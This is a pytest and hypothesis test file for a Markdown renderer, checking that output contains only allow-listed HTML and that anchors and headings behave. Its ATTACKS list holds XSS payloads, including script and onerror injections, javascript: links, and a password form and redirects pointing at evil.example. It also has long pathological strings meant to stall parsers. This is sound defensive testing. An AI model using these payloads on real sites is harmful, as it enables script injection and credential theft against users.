"""Markdown becomes safe HTML with stable places to comment on."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govflow.text import anchors, plain, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/admin/people/delete)",
    "<javascript:alert(1)>",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](x)',
    "![x](javascript:alert(1))",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<p id=csrf-token>x</p>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "a | b\n--|--\n<script>alert(1)</script> | x",
    "# <img src=x onerror=alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "\x02wzxhzdk:0\x03<script>",
    "<scr<script>ipt>alert(1)</script>",
    "\ud800<script>",
]
TAGS = "p h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong a br hr div"
TABLE_TAGS = "table thead tbody tr th td"
SAFE_TAGS = {*TAGS.split(" "), *TABLE_TAGS.split(" ")}
ATTRIBUTES = "href title rel id start scope align class role tabindex aria-label"
SAFE_ATTRIBUTES = {*ATTRIBUTES.split(" ")}


class Inspector(HTMLParser):
    """Refuses every element and attribute that is not on the short list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in SAFE_TAGS
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES
            if name == "href":
                assert str(value).startswith(("http://", "https://", "mailto:"))
            if name == "id":
                assert str(value).startswith("p-")
            if name in {"class", "role", "tabindex"}:
                assert tag == "div"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def inspect(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_more_than_text(attack: str) -> None:
    inspect(render(attack))
    inspect(render(f"Before {attack} after\n\n{attack}\n\n- {attack}"))


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "**", "`", "[", "](", ")", "|", "> "])))
def test_no_mixture_of_attacks_does_either(parts: list[str]) -> None:
    inspect(render("".join(parts)))


@given(st.text())
def test_any_text_renders(text: str) -> None:
    inspect(render(text))
    for anchor in anchors(text):
        assert f'id="{anchor.id}"' in render(text)


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert render("Use <b>care</b>.") == '<p id="p-1">Use &lt;b&gt;care&lt;/b&gt;.</p>'


def test_the_usual_markdown_is_there() -> None:
    html = render("**Bold** and [a link](https://example.org) & more\n\n1. one\n2. two\n\n- dot")
    assert "<strong>Bold</strong>" in html
    assert '<a href="https://example.org" rel="noopener noreferrer">a link</a> &amp; more' in html
    assert '<ol>\n<li id="p-2">one</li>' in html
    assert '<ul>\n<li id="p-4">dot</li>' in html


def test_tables_scroll_by_themselves_and_name_their_columns() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert 'class="govflow-scroll" role="region" tabindex="0"' in html
    assert 'aria-label="Table 1"' in html
    assert '<th align="right" scope="col">b</th>' in html or 'scope="col" align="right"' in html
    assert anchors("| a | b |\n|---|--:|\n| 1 | 2 |")[0].text == "a b 1 2"


def test_pictures_become_their_description() -> None:
    assert render("![A bar chart](https://x.example/a.png) here") == (
        '<p id="p-1"><em>[Picture: A bar chart]</em> here</p>'
    )


@pytest.mark.parametrize(
    ("source", "top", "levels"),
    [
        ("# A\n\n## B\n\n# C", 2, ["h2", "h3", "h2"]),
        ("### A\n\n# B", 2, ["h2", "h2"]),
        ("# A\n\n#### B\n\n## C", 3, ["h3", "h4", "h4"]),
        (
            "# A\n\n## B\n\n### C\n\n#### D\n\n##### E\n\n###### F",
            3,
            ["h3", "h4", "h5", "h6", "h6", "h6"],
        ),
    ],
)
def test_headings_begin_where_the_page_lets_them(source: str, top: int, levels: list[str]) -> None:
    html = render(source, top)
    assert [part[:2] for part in html.split("<") if part[:1] == "h"] == levels


def test_a_key_follows_its_text_to_another_place() -> None:
    before = anchors("First.\n\nSecond.\n\n- third\n\nSecond.")
    after = anchors("New.\n\nFirst.\n\nSecond changed.\n\n- third\n\nSecond.")
    keys = {anchor.text: anchor.key for anchor in after}
    assert [anchor.id for anchor in before] == ["p-1", "p-2", "p-3", "p-4"]
    assert keys["First."] == before[0].key
    assert keys["third"] == before[2].key
    assert len({anchor.key for anchor in before}) == 4, "equal texts are still told apart"


def test_nested_items_own_only_their_words() -> None:
    texts = [anchor.text for anchor in anchors("- outer\n    - inner\n- next\n\n    with more")]
    assert texts == ["outer", "inner", "next", "with more"]


def test_plain_is_the_words_alone() -> None:
    assert plain("# Rest & pay\n\nA **bold** [link](https://example.org).") == (
        "Rest & pay\nA bold link."
    )


def test_a_tangled_text_is_shown_as_typed() -> None:
    html = render("Before <b>\n\n" + "[" * 2_000)
    assert html.startswith('<p id="p-1">Before &lt;b&gt;</p>\n<p id="p-2">[[[')


@pytest.mark.parametrize(
    "text",
    [
        ">" * 20_000,
        "- " * 5_000,
        "*" * 20_000,
        "[" * 100_000,
        "``a`" * 30_000,
        "#\n" * 30_000,
        "\n\n".join(["``a`" * 300] * 30),
        "`" * 20_000,
        "![" * 3_000,
        "\n".join("    " * n + "- x" for n in range(200)),
        "_a" * 10_000,
        "<" * 20_000,
        "&" * 20_000,
        "|" * 10_000,
        "a|b\n-|-\n" + "x|y\n" * 3_000,
    ],
    ids=lambda text: text[:6],
)
def test_no_text_stalls_the_page(text: str) -> None:
    inspect(render(text))  # a text that stalls would never come back
